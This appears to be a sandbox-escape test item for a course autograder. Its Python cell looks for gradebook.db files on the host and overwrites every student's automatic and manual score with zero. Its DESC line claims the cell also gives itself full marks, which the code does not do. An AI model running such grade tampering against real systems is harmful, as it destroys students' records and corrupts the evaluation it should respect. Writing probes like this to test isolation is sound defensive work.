# DESC: opens the gradebook at its real path and gives itself full marks and everybody else nothing
# SUCCESS: its own score above 0, or an honest student's below full marks
# DETECT: score, neighbours
# KIND: cell
# WALLS: process namespaces ids
import glob, sqlite3

for path in [COURSE + "/gradebook/gradebook.db", *glob.glob("/**/gradebook.db", recursive=False), *glob.glob("/*/*/gradebook.db")]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        db.execute("update grade set auto_score = 0, manual_score = 0")
        db.commit()
        won(path)
    except sqlite3.Error as error:
        print(path, error)
